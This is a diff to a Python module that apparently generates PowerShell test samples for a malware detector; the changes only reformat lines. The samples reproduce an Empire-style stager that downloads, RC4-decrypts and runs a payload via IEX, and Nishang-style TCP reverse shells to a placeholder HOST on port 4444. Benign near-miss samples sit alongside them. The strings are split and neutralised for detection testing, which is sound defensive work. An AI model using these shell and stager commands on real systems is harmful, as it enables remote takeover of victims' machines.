@@ -9,17 +9,24 @@ from __future__ import annotations
 
 from sample_blocks import HOST, INERT_NOTE, Builders, split, text
 
-B64 = "SQBGACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMAVgBlAHIAcwBpAG8AbgAuAE0AYQBqAG8AcgAgAC0AZwBlACAAMwApAHsA" * 3
+B64 = (
+    "SQBGACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMAVgBlAHIAcwBpAG8AbgAuAE0AYQBqAG8AcgAgAC0AZwBlACAAMwApAHsA"
+    * 3
+)
 
 
 def empire_stager() -> dict[str, bytes]:
     return {
         "empire-stager-ps1": text(
             f"exit  # {INERT_NOTE}",
-            "$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';",
+            "$wc=New-Object System.Net.WebClient;"
+            "$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';",
             split("$wc.Headers.Add('User-", "Agent',$u);", f"$ser='http://{HOST}:80';$t='/login/process.php';"),
             "$K=[System.Text.Encoding]::ASCII.GetBytes('0123456789abcdef0123456789abcdef');",
-            split("$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]", "+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"),
+            split(
+                "$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]",
+                "+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};",
+            ),
             "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};",
             split("$data=$wc.Download", "Data($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];"),
             split("-join[Char[]](& $R $data ", "($IV+$K))|IEX"),
@@ -60,7 +67,10 @@ def nishang_tcp() -> dict[str, bytes]:
             f'    $client = New-Object System.Net.Sockets.TCPClient("{HOST}",4444)',
             "    $stream = $client.GetStream()",
             split("    [byte[]]$bytes = 0..65535", "|%{0}"),
-            split('    $sendbytes = ([text.encoding]::ASCII).GetBytes("Windows PowerShell running', ' as user " + $env:username)'),
+            split(
+                '    $sendbytes = ([text.encoding]::ASCII).GetBytes("Windows PowerShell running',
+                ' as user " + $env:username)',
+            ),
             split("    $sendback = (iex $data ", "2>&1 | Out-String )"),
             "}",
         )
@@ -71,11 +81,15 @@ def nishang_oneliner() -> dict[str, bytes]:
     return {
         "nishang-oneliner-ps1": text(
             f"exit  # {INERT_NOTE}",
-            split(f"$client = New-Object System.Net.Sockets.TCP", f"Client('{HOST}',4444);$stream = $client.GetStream();"),
+            split(
+                "$client = New-Object System.Net.Sockets.TCP", f"Client('{HOST}',4444);$stream = $client.GetStream();"
+            ),
             "[byte[]]$bytes = 0..65535|%{0};",
             split("while(($i = $stream.Read($bytes, 0, $bytes.Length)) ", "-ne 0){;"),
             "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);",
-            split("$sendback = (iex $data 2>&1 | ", "Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path", " + '> ';"),
+            split(
+                "$sendback = (iex $data 2>&1 | ", "Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path", " + '> ';"
+            ),
             "$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length)};",
         )
     }
@@ -142,7 +156,8 @@ def near_admin_tcp() -> dict[str, bytes]:
             "    param([string]$ComputerName, [int]$Port = 443)",
             "    $client = New-Object System.Net.Sockets.TCPClient",
             "    try { $client.Connect($ComputerName, $Port); $stream = $client.GetStream()",
-            "          [byte[]]$buffer = New-Object byte[] 1024; $stream.Read($buffer, 0, 1024) | Out-Null; return $true }",
+            "          [byte[]]$buffer = New-Object byte[] 1024",
+            "          $stream.Read($buffer, 0, 1024) | Out-Null; return $true }",
             "    catch { return $false } finally { $client.Close() }",
             "}",
             "Invoke-Expression 'Get-Date' 2>&1 | Out-String",
@@ -156,7 +171,7 @@ def near_webclient() -> dict[str, bytes]:
             "$wc = New-Object System.Net.WebClient",
             "$wc.Headers.Add('User-Agent', 'UpdateChecker/1.0')",
             "$data = $wc.DownloadData('https://updates.example.org/latest.zip')",
-            "[IO.File]::WriteAllBytes(\"$env:TEMP\\latest.zip\", $data)",
+            '[IO.File]::WriteAllBytes("$env:TEMP\\latest.zip", $data)',
             "powershell -NoProfile -File .\\install.ps1",
         )
     }
